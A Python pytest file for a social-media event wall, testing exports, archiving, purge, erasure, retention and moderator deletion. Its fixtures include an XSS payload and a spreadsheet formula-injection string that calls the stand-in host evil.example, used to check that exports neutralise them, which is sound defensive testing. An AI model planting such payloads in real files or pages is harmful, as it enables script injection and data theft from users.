"""After the event: exports read back, the archive, purge, erase and retention leave nothing."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import requests
import socketio
from PIL import Image
from sqlalchemy import func, select

from tests.browser import screenshot
from tests.conftest import make_post, write_config
from tests.test_browser import card, log_in
from tests.test_events_new import socialwall
from tests.test_realtime import receive_until, screen_client
from wall import desk
from wall.config import load_config
from wall.erase import erase, expire
from wall.models import Decision
from wall.store import schema
from wall.walldb import opened

APPROVED = Decision("approved", ("ok",))
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)> #TestDays'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class Parsed(HTMLParser):
    """Collect the tags, attributes and text of an exported page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def plant(config: Any, name: str, data: bytes) -> str:
    """Put an image file in the wall's cache; return its /media/ URL."""
    path = config.server.instance_dir / "media" / "cache" / name[:2] / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return f"/media/cache/{name[:2]}/{name}"


def counts(config: Any) -> dict[str, int]:
    with opened(config) as store, store.read() as conn:
        return {t: int(conn.execute(select(func.count()).select_from(
            schema.metadata.tables[t])).scalar_one()) for t in ("posts", "post_tags", "audit")}


def stored_wall(tmp_path: Path) -> tuple[Path, Any, dict[str, int]]:
    """A wall with three posts: hostile text with an image, a formula, one pending."""
    path = write_config(tmp_path, mode="post", async_mode="threading")
    config = load_config(path)
    photo = plant(config, "ab12.webp", b"RIFF-one-photo")
    with opened(config) as store:
        ids = {
            "hostile": store.ingest(make_post(author="<b>Eve</b>", handle="@eve", text=HOSTILE,
                                              media=[photo]),
                                    APPROVED).post["id"],
            "formula": store.ingest(make_post(author="Mallory", handle="@mallory",
                                              text=FORMULA, network="mastodon"),
                                    APPROVED).post["id"],
            "pending": store.ingest(make_post(author="Pat", handle="@pat", text="later"),
                                    Decision("pending")).post["id"],
        }
    return path, config, ids


def test_posts_export_as_csv_jsonl_and_an_offline_html_folder(tmp_path: Path) -> None:
    path, config, _ = stored_wall(tmp_path)
    done = socialwall("export", "posts", "--format", "csv", "--config", str(path), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["handle"] for r in rows] == ["@eve", "@mallory", "@pat"]  # no '@ anywhere
    assert rows[0]["text"] == HOSTILE
    assert rows[1]["text"] == "'" + FORMULA
    assert [r["status"] for r in rows] == ["approved", "approved", "pending"]

    jsonl = socialwall("export", "posts", "--config", str(path), cwd=tmp_path)
    lines = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert [line["text"] for line in lines] == [HOSTILE, FORMULA, "later"]

    folder = tmp_path / "posts-html"
    html = socialwall("export", "posts", "--format", "html", "-o", str(folder),
                      "--config", str(path), cwd=tmp_path)
    assert html.returncode == 0, html.stderr
    assert html.stdout.startswith(f"2 posts written to {folder / 'index.html'}")
    page = Parsed()
    page.feed((folder / "index.html").read_text(encoding="utf-8"))
    tags = [t for t, _ in page.tags]
    assert "script" not in tags and tags.count("article") == 2
    assert HOSTILE in "".join(page.text) and "<b>Eve</b>" in "".join(page.text)
    images = [a["src"] for t, a in page.tags if t == "img"]
    assert images == ["images/ab12.webp"]
    assert (folder / "images" / "ab12.webp").read_bytes() == b"RIFF-one-photo"


def test_the_stats_export_leaves_the_organisers_announcements_out(tmp_path: Path) -> None:
    path, config, _ = stored_wall(tmp_path)
    with opened(config) as store:  # the organisers' words are not counted as the public's
        desk.host_message(store, "Keynote at 10 #TestDays", "Organisers", "mo")
    done = socialwall("export", "stats", "--format", "csv", "--config", str(path), cwd=tmp_path)
    rows = [tuple(r) for r in csv.reader(io.StringIO(done.stdout))]
    assert ("total", "approved posts", "2") in rows and ("hashtag", "testdays", "1") in rows
    assert not [r for r in rows if "host" in r or "Organisers" in r]


def test_stats_and_audit_exports(tmp_path: Path) -> None:
    path, _, _ = stored_wall(tmp_path)
    done = socialwall("export", "stats", "--format", "csv", "--config", str(path), cwd=tmp_path)
    rows = [tuple(r) for r in csv.reader(io.StringIO(done.stdout))]
    assert rows[0] == ("kind", "key", "posts")
    assert ("total", "approved posts", "2") in rows
    assert ("network", "mastodon", "1") in rows and ("network", "webhook", "1") in rows
    assert ("hashtag", "testdays", "1") in rows and ("author", "@eve", "1") in rows
    png = tmp_path / "stats.png"
    done = socialwall("export", "stats", "--format", "png", "-o", str(png), "--config", str(path),
                      cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with Image.open(png) as chart:
        assert chart.format == "PNG" and chart.size == (1200, 900)
    audit = socialwall("export", "audit", "--format", "csv", "--config", str(path), cwd=tmp_path)
    entries = list(csv.DictReader(io.StringIO(audit.stdout)))
    assert [e["handle"] for e in entries] == ["@eve", "@mallory", "@pat"]
    assert entries[1]["text"] == "'" + FORMULA


def test_archive_bundles_every_export(tmp_path: Path) -> None:
    path, _, _ = stored_wall(tmp_path)
    target = tmp_path / "devcon.zip"
    done = socialwall("archive", "-o", str(target), "--config", str(path), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(target) as bundle:
        names = set(bundle.namelist())
        assert names == {"posts.jsonl", "posts.csv", "posts-html/index.html",
                         "posts-html/images/ab12.webp", "stats.csv", "stats.png", "audit.csv",
                         "config.toml"}
        assert len(bundle.read("posts.jsonl").decode().splitlines()) == 3
        assert bundle.read("config.toml") == path.read_bytes()


def test_purge_asks_for_the_title_then_leaves_nothing(tmp_path: Path) -> None:
    path, config, _ = stored_wall(tmp_path)
    refused = socialwall("purge", "--config", str(path), cwd=tmp_path, stdin="Test\n")
    assert refused.returncode == 1
    assert refused.stderr == "socialwall: the title typed differs; nothing was deleted\n"
    assert counts(config)["posts"] == 3
    done = socialwall("purge", "--config", str(path), cwd=tmp_path, stdin="Test Wall\n")
    assert done.returncode == 0, done.stderr
    assert "Purged: 1 post_tags, 3 audit, 5 events, 3 posts, 1 image files." in done.stdout
    assert counts(config) == {"posts": 0, "post_tags": 0, "audit": 0}
    cache = config.server.instance_dir / "media" / "cache"
    assert not cache.exists()
    export = socialwall("export", "posts", "--config", str(path), cwd=tmp_path)
    assert export.stdout == ""


def test_erase_leaves_nothing_of_the_post_but_keeps_shared_images(tmp_path: Path) -> None:
    path, config, ids = stored_wall(tmp_path)
    with opened(config) as store:
        shared = store.ingest(make_post(text="same photo", media=[
            "/media/cache/ab/ab12.webp"]), APPROVED).post["id"]
        events = erase(store, ids["hostile"], "Mo", config.server.instance_dir / "media")
        assert [e.type for e in events] == ["post_removed"]
        photo = config.server.instance_dir / "media" / "cache" / "ab" / "ab12.webp"
        assert photo.exists()  # another post shows the same file
        erase(store, shared, "Mo", config.server.instance_dir / "media")
        assert not photo.exists()
        with store.read() as conn:
            dump = json.dumps([list(map(str, r)) for t in ("posts", "events", "audit")
                               for r in conn.execute(select(schema.metadata.tables[t]))])
    assert "script" not in dump and "Eve" not in dump and "@eve" not in dump
    audit = socialwall("export", "audit", "--format", "csv", "--config", str(path), cwd=tmp_path)
    erased = [e for e in csv.DictReader(io.StringIO(audit.stdout))
              if e["post_id"] == str(ids["hostile"])]
    assert [e["action"] for e in erased] == ["approved", "erase"]
    assert all(e["text"] == "" and e["handle"] == "" for e in erased)
    export = socialwall("export", "posts", "--format", "csv", "--config", str(path), cwd=tmp_path)
    assert "@eve" not in export.stdout and "script" not in export.stdout


def test_retention_erases_what_is_older_on_a_controllable_clock(tmp_path: Path) -> None:
    _, config, ids = stored_wall(tmp_path)
    media = config.server.instance_dir / "media"
    with opened(config) as store:
        now = datetime.now(UTC)
        assert expire(store, media, 30, now) == []
        events = expire(store, media, 30, now + timedelta(days=31))
        assert len(events) == 3
    # Audit entries older than 30 days on that clock went too (the erasures are logged at
    # the real time, which is 31 days before it).
    assert counts(config) == {"posts": 0, "post_tags": 0, "audit": 0}
    assert not (media / "cache" / "ab" / "ab12.webp").exists()


def test_a_moderator_erases_a_post_from_every_screen(wall_server_factory: Any) -> None:
    server = wall_server_factory(mode="post")
    screen, _ = screen_client(server)
    try:
        [post_id] = server.push({"author": "Ana", "handle": "@ana", "text": "Delete me please"})
        receive_until(screen, "post_added")
        assert requests.post(f"{server.url}/api/posts/{post_id}/erase", timeout=10
                             ).status_code == 401
        http = server.session()
        no_csrf = requests.post(f"{server.url}/api/posts/{post_id}/erase", timeout=10,
                                cookies=http.cookies)
        assert no_csrf.status_code == 403
        reply = http.post(f"{server.url}/api/posts/{post_id}/erase", timeout=10)
        assert reply.status_code == 200 and reply.json()["erased"] == post_id
        [removed] = receive_until(screen, "post_removed")
        assert removed["id"] == post_id
        assert http.post(f"{server.url}/api/posts/{post_id}/erase", timeout=10
                         ).status_code == 404
        late = socketio.SimpleClient()
        late.connect(server.url, transports=["websocket"])
        ack = late.call("join_screen", {"screen": "feed", "name": "late", "since": 0},
                        timeout=10)
        assert "Delete me" not in json.dumps(ack)
        late.disconnect()
        approved = requests.get(f"{server.url}/api/posts?status=approved", timeout=10).json()
        assert "Delete me" not in json.dumps(approved)
    finally:
        screen.disconnect()


@pytest.mark.slow
def test_the_erase_button_asks_then_takes_the_post_off_the_feed(
        wall_server_factory: Any, page_factory: Any) -> None:
    server = wall_server_factory(mode="pre")
    [post_id] = server.push({"author": "Ana", "handle": "@ana", "text": "Please erase me"})
    feed = page_factory(f"{server.url}/screen/feed")
    moderator = page_factory(f"{server.url}/moderate")
    log_in(moderator)
    desk_card = card(moderator, post_id)
    desk_card.locator('[data-action="approve"]').click()
    card(feed, post_id).wait_for(timeout=15000)
    moderator.locator('[data-tab="shown"]').click()  # approved posts live in the Shown tab
    erase_button = card(moderator, post_id).locator('[data-action="erase"]')
    erase_button.wait_for(timeout=15000)  # visible on the card, not only in the DOM
    erase_button.click()  # page_factory dismisses the confirmation: nothing happens
    assert moderator.dialogs[-1].startswith("Erase this post for good")
    screenshot(moderator, "erase-button")
    moderator.wait_for_timeout(500)
    assert card(feed, post_id).count() == 1
    moderator.evaluate("window.confirm = () => true")  # the moderator says yes this time
    erase_button.click()
    card(feed, post_id).wait_for(state="detached", timeout=15000)
    card(moderator, post_id).wait_for(state="detached", timeout=15000)
    assert feed.errors == [] and moderator.errors == []
